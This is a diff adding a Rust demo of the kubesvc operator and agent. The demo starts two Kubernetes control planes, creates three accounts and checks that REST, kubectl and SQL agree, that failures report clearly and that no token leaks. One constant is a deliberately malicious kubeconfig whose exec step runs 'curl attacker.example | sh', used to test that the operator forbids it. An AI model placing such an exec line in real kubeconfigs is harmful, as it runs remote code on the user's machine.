@@ -1,0 +1,527 @@
+//! The demo: two real control planes, the real programs, three accounts, and what a person sees of them: `make demo`.
+//!
+//! It stays up until Ctrl-C. With `DEMO_ONCE=1` it ends after its checks instead: exit code 0 if all of them held.
+
+#[path = "../tests/harness/mod.rs"]
+mod harness;
+#[path = "demo/http.rs"]
+mod http_get;
+#[path = "demo/screen.rs"]
+mod screen;
+#[path = "demo/sql.rs"]
+mod sql;
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, ExitCode};
+use std::time::Duration;
+
+use serde_json::Value;
+use tokio::signal::unix::{Signal, SignalKind, signal};
+
+use harness::{
+    controlplane::{ControlPlane, StartOptions, kubectl_path},
+    folder::Folder,
+    kubectl::{self, Output},
+    ports,
+    process::Process,
+    wait::try_eventually,
+};
+use screen::Screen;
+
+/// Where the operator and the accounts are.
+const NAMESPACE: &str = "spinnaker";
+/// The zone of the agent that the demo starts.
+const ZONE: &str = "east";
+/// The zone of the agent that it does not start.
+const OTHER_ZONE: &str = "west";
+
+/// A kubeconfig that would run a program on whoever uses it.
+const BAD_KUBECONFIG: &str = "\
+apiVersion: v1
+kind: Config
+clusters: [{name: production, cluster: {server: 'https://production.example:6443'}}]
+users:
+- name: admin
+  user:
+    exec:
+      apiVersion: client.authentication.k8s.io/v1
+      command: /bin/sh
+      args: [-c, 'curl attacker.example | sh']
+contexts: [{name: admin, context: {cluster: production, user: admin}}]
+current-context: admin
+";
+
+fn main() -> ExitCode {
+    let screen = Screen::new();
+    let runtime = match tokio::runtime::Runtime::new() {
+        Ok(runtime) => runtime,
+        Err(error) => {
+            screen.complain(&format!("no runtime: {error}"));
+            return ExitCode::FAILURE;
+        }
+    };
+    let result = runtime.block_on(async {
+        let mut signals = Signals::catch()?;
+        tokio::select! {
+            result = demo(&screen) => result,
+            () = signals.next() => { screen.say("\nstopped; everything is removed"); Ok(()) }
+        }
+    });
+    match result {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(reason) => {
+            screen.complain(&reason);
+            ExitCode::FAILURE
+        }
+    }
+}
+
+async fn demo(screen: &Screen) -> Result<(), String> {
+    let once = std::env::var_os("DEMO_ONCE").is_some_and(|value| !value.is_empty() && value != "0");
+    screen.heading("kubesvc: two control planes, an operator, an agent, three accounts");
+    screen.say("");
+    let demo = Demo::start(screen).await?;
+    let shown = async {
+        demo.settle(screen).await?;
+        demo.show(screen).await?;
+        demo.check(screen).await
+    };
+    shown.await.map_err(|reason| demo.with_logs(&reason))?;
+    if once {
+        return demo.stop(screen).await.map_err(|reason| demo.with_logs(&reason));
+    }
+    demo.suggest(screen)?;
+    demo.watch().await
+}
+
+/// Everything that runs. Dropped in this order.
+struct Demo {
+    agent: Process,
+    operator: Process,
+    files: Files,
+    token: String,
+    rest: u16,
+    kubectl: PathBuf,
+    // The operator's home and a cluster that Spinnaker deploys to: they run as long as this lives.
+    _control_planes: [ControlPlane; 2],
+}
+
+/// The files of the demo, in one folder.
+struct Files {
+    folder: Folder,
+}
+
+impl Files {
+    /// The administrator's kubeconfig of the operator's home.
+    fn kubeconfig(&self) -> PathBuf {
+        self.folder.file("kubeconfig")
+    }
+
+    fn database(&self) -> PathBuf {
+        self.folder.file("kubesvc.db")
+    }
+
+    /// The settings of the agent of a zone.
+    fn agent_settings(&self, zone: &str) -> PathBuf {
+        self.folder.file(&format!("agent-{zone}"))
+    }
+}
+
+impl Demo {
+    async fn start(screen: &Screen) -> Result<Self, String> {
+        let (operator_program, agent_program) = (program("kubesvc-operator")?, program("kubesvc-agent")?);
+        let files = Files { folder: Folder::new("demo")? };
+        let kubectl = kubectl_path()?;
+        let mut target_options = StartOptions::default();
+        let token = target_options.add_user("spinnaker", &[]);
+        let (home, target) = screen
+            .step("two control planes: the operator's home and a target cluster", async {
+                tokio::try_join!(ControlPlane::start(), ControlPlane::start_with(target_options))
+            })
+            .await?;
+
+        let namespaced = |kubeconfig: String| {
+            kubeconfig.replace("namespace: default", &format!("namespace: {NAMESPACE}"))
+        };
+        files.folder.write("kubeconfig", &namespaced(home.admin_kubeconfig()))?;
+        let operator_kubeconfig = screen
+            .step("definitions and rights: crds/ and config/rbac, by kubectl apply", async {
+                install(&home).await?;
+                let token = home.kubectl(["create", "token", "kubesvc-operator", "-n", NAMESPACE]).await.ok()?;
+                files.folder.write("operator.kubeconfig", &namespaced(home.kubeconfig_for_token(token.trim())))
+            })
+            .await?;
+        screen.step("in the target cluster: two namespaces and a user for Spinnaker", prepare(&target)).await?;
+
+        let (rest, grpc, health) = (ports::free(), ports::free(), ports::free());
+        let operator = screen
+            .step("kubesvc-operator: REST, hub and controller ready", async {
+                let settings = files.folder.write("kubesvc.yml", &operator_settings(rest, grpc, &files.database()))?;
+                let mut command = Command::new(&operator_program);
+                command.arg("--config").arg(settings).arg("--kubeconfig").arg(&operator_kubeconfig);
+                command.args(["--namespace", NAMESPACE]).env("POD_NAME", "demo-operator");
+                let process = Process::spawn("kubesvc-operator", &command, &files.folder.file("operator.log"))?;
+                until_ready(&process, rest).await?;
+                Ok(process)
+            })
+            .await?;
+        let agent = screen
+            .step(&format!("kubesvc-agent of zone {ZONE}: connected to the hub"), async {
+                for (zone, health) in [(ZONE, health), (OTHER_ZONE, 0)] {
+                    let folder = files.agent_settings(zone);
+                    std::fs::create_dir(&folder).map_err(|e| format!("{}: {e}", folder.display()))?;
+                    files.folder.write(&format!("agent-{zone}/armory-agent.yml"), &agent_settings(zone, grpc, health))?;
+                }
+                let mut command = Command::new(&agent_program);
+                command.arg("--config-dir").arg(files.agent_settings(ZONE)).env("AGENT_ID", "agent-1");
+                let process = Process::spawn("kubesvc-agent", &command, &files.folder.file("agent.log"))?;
+                until_ready(&process, health).await?;
+                Ok(process)
+            })
+            .await
+            .map_err(|reason| with_log(&reason, &operator))?;
+        let good = target.kubeconfig_for_token(&token);
+        let demo = Self { agent, operator, files, token, rest, kubectl, _control_planes: [home, target] };
+        screen
+            .step("three accounts, by kubectl apply", async {
+                demo.kubectl_with_input(&["apply", "-f", "-"], &accounts(&good)).await?.ok()
+            })
+            .await?;
+        Ok(demo)
+    }
+
+    /// Waits until each account is where it should be.
+    async fn settle(&self, screen: &Screen) -> Result<(), String> {
+        for (name, what, state) in [
+            ("good", "account good: ACTIVE", "ACTIVE"),
+            ("bad", "account bad: FAILED, its kubeconfig would run a program", "FAILED"),
+            ("no-agent", "account no-agent: FAILED, nobody is in its zone", "FAILED"),
+        ] {
+            let account = format!("ksa/{name}");
+            let wanted = format!("--for=jsonpath={{.status.state}}={state}");
+            screen
+                .step(what, async {
+                    self.kubectl(&["wait", &account, &wanted, "--timeout=30s"]).await?.ok()?;
+                    self.row(name, state).await
+                })
+                .await?;
+        }
+        Ok(())
+    }
+
+    /// The row follows the object at once, but not in the same moment.
+    async fn row(&self, name: &str, state: &str) -> Result<(), String> {
+        try_eventually(&format!("the row of {name}"), Duration::from_secs(5), async || {
+            let rows = sql::rows(&self.files.database()).await?;
+            let row = rows.iter().find(|row| row[0] == name).ok_or("there is none")?;
+            if row[1] == state { Ok(()) } else { Err(format!("its status is {}", row[1])) }
+        })
+        .await
+    }
+
+    async fn show(&self, screen: &Screen) -> Result<(), String> {
+        for command in [&["get", "ksa"][..], &["get", "ksg"]] {
+            let output = self.kubectl(command).await?.ok()?;
+            screen.command(&format!("kubectl {}", command.join(" ")), &output);
+        }
+        let described = self.kubectl(&["describe", "ksa", "bad"]).await?.ok()?;
+        let excerpt: Vec<&str> = described.lines().skip_while(|line| !line.starts_with("Status:")).collect();
+        screen.command("kubectl describe ksa bad | sed -n '/^Status:/,$p'", &excerpt.join("\n"));
+        let account = self.account("good").await?;
+        screen.command(&format!("curl -s {}/armory/accounts/good | jq .", self.url()), &pretty(&account));
+        let rows = sql::rows(&self.files.database()).await?;
+        screen.command(&self.sqlite(), &sql::print(&rows));
+        Ok(())
+    }
+
+    /// What has to hold, whatever the screen showed.
+    async fn check(&self, screen: &Screen) -> Result<(), String> {
+        screen.heading("Checks");
+        screen.say("");
+        screen
+            .step("REST, kubectl and SQL agree on every account", async {
+                let rows = sql::rows(&self.files.database()).await?;
+                for name in ["good", "bad", "no-agent"] {
+                    let state = self.jsonpath(name, "{.status.state}").await?;
+                    let answer = text_at(&self.account(name).await?, "/status");
+                    let row = rows.iter().find(|row| row[0] == name).map(|row| row[1].clone());
+                    if answer != state || row.as_deref() != Some(state.as_str()) {
+                        return Err(format!("{name}: kubectl says {state}, REST {answer}, SQL {row:?}"));
+                    }
+                }
+                Ok(())
+            })
+            .await?;
+        screen
+            .step("each failure says what it is and whether it is tried again", async {
+                self.expect_failure("bad", "ExecForbidden", "exec", "True").await?;
+                self.expect_failure("no-agent", "NoAgent", OTHER_ZONE, "False").await
+            })
+            .await?;
+        screen.step("the token is in no object, answer, row or log", self.expect_no_token()).await
+    }
+
+    /// The condition Ready has this reason, the message speaks of `word`, and Stalled is as given.
+    async fn expect_failure(&self, name: &str, reason: &str, word: &str, stalled: &str) -> Result<(), String> {
+        let condition = |type_: &str, field: &str| format!("{{.status.conditions[?(@.type=={type_:?})].{field}}}");
+        let found = [
+            self.jsonpath(name, &condition("Ready", "reason")).await?,
+            self.jsonpath(name, "{.status.errorMessage}").await?,
+            self.jsonpath(name, &condition("Stalled", "status")).await?,
+        ];
+        if found[0] == reason && found[1].contains(word) && found[2] == stalled {
+            return Ok(());
+        }
+        Err(format!("{name}: reason, message and Stalled are {found:?}; expected {reason}, …{word}…, {stalled}"))
+    }
+
+    async fn expect_no_token(&self) -> Result<(), String> {
+        let answers = [
+            ("kubectl get ksa,ksg", self.kubectl(&["get", "ksa,ksg", "-o", "yaml"]).await?.ok()?),
+            ("kubectl get events", self.kubectl(&["get", "events", "-o", "yaml"]).await?.ok()?),
+            ("GET /armory/accounts/good", self.account("good").await?.to_string()),
+            ("GET /metrics", http_get::get_ok(self.rest, "/metrics").await?),
+            ("the operator's log", self.operator.log_text()),
+            ("the agent's log", self.agent.log_text()),
+        ];
+        for (place, text) in answers {
+            if text.contains(&self.token) {
+                return Err(format!("the token of the target cluster is in {place}"));
+            }
+        }
+        for file in [self.files.database(), self.files.folder.file("kubesvc.db-wal")] {
+            let bytes = std::fs::read(&file).unwrap_or_default();
+            if bytes.windows(self.token.len()).any(|window| window == self.token.as_bytes()) {
+                return Err(format!("the token of the target cluster is in {}", file.display()));
+            }
+        }
+        Ok(())
+    }
+
+    /// Says what to try next.
+    fn suggest(&self, screen: &Screen) -> Result<(), String> {
+        let folder = self.kubectl.parent().unwrap_or(Path::new("."));
+        screen.heading("It stays up until Ctrl-C. In another terminal:");
+        screen.suggestion(
+            "the kubectl and the cluster of this demo",
+            &format!(
+                "export PATH={}:$PATH KUBECONFIG={}",
+                folder.display(),
+                self.files.kubeconfig().display()
+            ),
+        );
+        screen.suggestion("watch the accounts", "kubectl get ksa --watch");
+        screen.suggestion(
+            "start an agent in the zone that has none: no-agent becomes ACTIVE",
+            &format!(
+                "AGENT_ID=agent-2 {} --config-dir {}",
+                program("kubesvc-agent")?.display(),
+                self.files.agent_settings(OTHER_ZONE).display()
+            ),
+        );
+        screen.suggestion(
+            "take an account from its agents, and give it back",
+            "kubectl patch ksa good --type=merge -p '{\"spec\":{\"state\":\"INACTIVE\"}}'\n    \
+             kubectl patch ksa good --type=merge -p '{\"spec\":{\"state\":\"ACTIVE\"}}'",
+        );
+        screen.suggestion(
+            "the same by REST",
+            &format!(
+                "curl -s -X PATCH {}/armory/accounts -H 'Content-Type: application/json' \\\n      \
+                 -d '[{{\"name\":\"good\",\"state\":\"INACTIVE\"}}]'\n    curl -s {0}/armory/agents",
+                self.url()
+            ),
+        );
+        screen.suggestion("delete one, and see it go", "kubectl delete ksa bad && kubectl get ksa");
+        screen.suggestion("the rows that Spinnaker reads", &self.sqlite());
+        screen.suggestion(
+            "what the programs say",
+            &format!("tail -f {} {}", self.operator.log().display(), self.agent.log().display()),
+        );
+        screen.say("");
+        Ok(())
+    }
+
+    /// Ends only when a program does.
+    async fn watch(&self) -> Result<(), String> {
+        loop {
+            for process in [&self.operator, &self.agent] {
+                process.check_running()?;
+            }
+            tokio::time::sleep(Duration::from_millis(500)).await;
+        }
+    }
+
+    /// Deletes an account and stops the programs, as a person would.
+    async fn stop(&self, screen: &Screen) -> Result<(), String> {
+        screen
+            .step("account good: deleted, and gone everywhere", async {
+                self.kubectl(&["delete", "ksa", "good", "--timeout=30s"]).await?.ok()?;
+                let answer = http_get::get(self.rest, "/armory/accounts/good").await?;
+                let rows = sql::rows(&self.files.database()).await?;
+                match (answer.code, rows.iter().any(|row| row[0] == "good")) {
+                    (404, false) => Ok(()),
+                    (code, row) => Err(format!("REST answers {code}; a row is there: {row}")),
+                }
+            })
+            .await?;
+        for process in [&self.agent, &self.operator] {
+            screen
+                .step(&format!("{}: ended by SIGTERM with exit code 0", process.name()), async {
+                    let status = process.terminate(Duration::from_secs(20)).await?;
+                    if status.success() { Ok(()) } else { Err(format!("{}: {status}", process.name())) }
+                })
+                .await?;
+        }
+        screen.say("");
+        Ok(())
+    }
+
+    fn url(&self) -> String {
+        format!("http://127.0.0.1:{}", self.rest)
+    }
+
+    fn sqlite(&self) -> String {
+        format!("sqlite3 -header -column {} '{}'", self.files.database().display(), sql::QUERY)
+    }
+
+    async fn account(&self, name: &str) -> Result<Value, String> {
+        let body = http_get::get_ok(self.rest, &format!("/armory/accounts/{name}")).await?;
+        serde_json::from_str(&body).map_err(|e| format!("GET /armory/accounts/{name}: {e}: {body}"))
+    }
+
+    async fn jsonpath(&self, name: &str, path: &str) -> Result<String, String> {
+        self.kubectl(&["get", "ksa", name, "-o", &format!("jsonpath={path}")]).await?.ok()
+    }
+
+    async fn kubectl(&self, args: &[&str]) -> Result<Output, String> {
+        self.kubectl_with_input(args, "").await
+    }
+
+    async fn kubectl_with_input(&self, args: &[&str], input: &str) -> Result<Output, String> {
+        kubectl::run(&self.kubectl, &self.files.kubeconfig(), args, input).await
+    }
+
+    fn with_logs(&self, reason: &str) -> String {
+        with_log(&with_log(reason, &self.operator), &self.agent)
+    }
+}
+
+/// The definitions, the namespace and the rights, each as config/ has it.
+async fn install(home: &ControlPlane) -> Result<(), String> {
+    let folder = |name: &str| Path::new(env!("CARGO_MANIFEST_DIR")).join(name).display().to_string();
+    home.kubectl(["apply", "--server-side", "-f", &folder("crds")]).await.ok()?;
+    home.kubectl(["wait", "crd", "--all", "--for=condition=Established", "--timeout=30s"]).await.ok()?;
+    home.kubectl(["create", "namespace", NAMESPACE]).await.ok()?;
+    let rights = home.kubectl(["kustomize", &folder("config/rbac")]).await.ok()?;
+    home.kubectl_with_input(["apply", "-n", NAMESPACE, "-f", "-"], &rights).await.ok()?;
+    // The API server takes an object of a new kind a moment after it calls the kind established.
+    try_eventually("the new kinds", Duration::from_secs(10), async || {
+        home.kubectl(["get", "ksa,ksg", "-n", NAMESPACE]).await.ok().map(drop)
+    })
+    .await
+}
+
+async fn prepare(target: &ControlPlane) -> Result<(), String> {
+    for namespace in ["shop", "payments"] {
+        target.kubectl(["create", "namespace", namespace]).await.ok()?;
+    }
+    target.kubectl(["create", "clusterrole", "spinnaker", "--verb=*", "--resource=*.*"]).await.ok()?;
+    let binding = ["create", "clusterrolebinding", "spinnaker", "--clusterrole=spinnaker", "--user=spinnaker"];
+    target.kubectl(binding).await.ok().map(drop)
+}
+
+/// A program that was built beside this one.
+fn program(name: &str) -> Result<PathBuf, String> {
+    let this = std::env::current_exe().map_err(|e| format!("where this program is: {e}"))?;
+    let built = this.parent().and_then(Path::parent).unwrap_or(Path::new(".")).join(name);
+    if built.is_file() {
+        return Ok(built);
+    }
+    Err(format!("{} is not there; `make demo` builds it", built.display()))
+}
+
+async fn until_ready(process: &Process, port: u16) -> Result<(), String> {
+    let what = format!("a ready {}", process.name());
+    let ready = try_eventually(&what, Duration::from_secs(30), async || match process.check_running() {
+        Err(ended) => Ok(Err(ended)),
+        Ok(()) => http_get::get_ok(port, "/health/readiness").await.map(|_| Ok(())),
+    });
+    ready.await.and_then(|ended| ended).map_err(|reason| with_log(&reason, process))
+}
+
+fn with_log(reason: &str, process: &Process) -> String {
+    format!("{reason}\n\nthe last lines of {}:\n{}", process.name(), process.log_tail(20))
+}
+
+fn operator_settings(rest: u16, grpc: u16, database: &Path) -> String {
+    format!(
+        "server: {{address: 127.0.0.1, port: {rest}}}
+kubesvc:
+  grpc: {{server: {{address: 127.0.0.1, port: {grpc}}}}}
+  database: {{url: 'sqlite://{}'}}
+  # Small enough to see something: an account whose zone has no agent says so after 3 s.
+  dynamicAccounts: {{orphanGraceSeconds: 3, retryFrequencySeconds: 1}}
+",
+        database.display()
+    )
+}
+
+fn agent_settings(zone: &str, grpc: u16, health: u16) -> String {
+    format!(
+        "clouddriver: {{grpc: '127.0.0.1:{grpc}', insecure: true}}
+server: {{host: 127.0.0.1, port: {health}}}
+zoneId: {zone}
+"
+    )
+}
+
+/// The three accounts and their Secrets.
+fn accounts(good_kubeconfig: &str) -> String {
+    let secret = |name: &str, kubeconfig: &str| {
+        let indented: String = kubeconfig.lines().map(|line| format!("    {line}\n")).collect();
+        format!("apiVersion: v1\nkind: Secret\nmetadata: {{name: {name}}}\nstringData:\n  kubeconfig: |\n{indented}---\n")
+    };
+    let account = |name: &str, zone: &str, secret: &str| {
+        format!(
+            "apiVersion: kubesvc.io/v1alpha1\nkind: KubesvcAccount\nmetadata: {{name: {name}}}\n\
+             spec:\n  zoneId: {zone}\n  kubeconfig: {{secretRef: {{name: {secret}}}}}\n---\n"
+        )
+    };
+    [
+        secret("good-kubeconfig", good_kubeconfig),
+        secret("bad-kubeconfig", BAD_KUBECONFIG),
+        account("good", ZONE, "good-kubeconfig"),
+        account("bad", ZONE, "bad-kubeconfig"),
+        account("no-agent", OTHER_ZONE, "good-kubeconfig"),
+    ]
+    .concat()
+}
+
+fn text_at(value: &Value, pointer: &str) -> String {
+    value.pointer(pointer).and_then(Value::as_str).unwrap_or_default().to_owned()
+}
+
+fn pretty(value: &Value) -> String {
+    serde_json::to_string_pretty(value).unwrap_or_else(|_| value.to_string())
+}
+
+/// What ends the demo from outside.
+struct Signals {
+    interrupt: Signal,
+    terminate: Signal,
+}
+
+impl Signals {
+    fn catch() -> Result<Self, String> {
+        let catch = |kind| signal(kind).map_err(|e| format!("signals cannot be caught: {e}"));
+        Ok(Self { interrupt: catch(SignalKind::interrupt())?, terminate: catch(SignalKind::terminate())? })
+    }
+
+    async fn next(&mut self) {
+        tokio::select! {
+            _ = self.interrupt.recv() => {}
+            _ = self.terminate.recv() => {}
+        }
+    }
+}
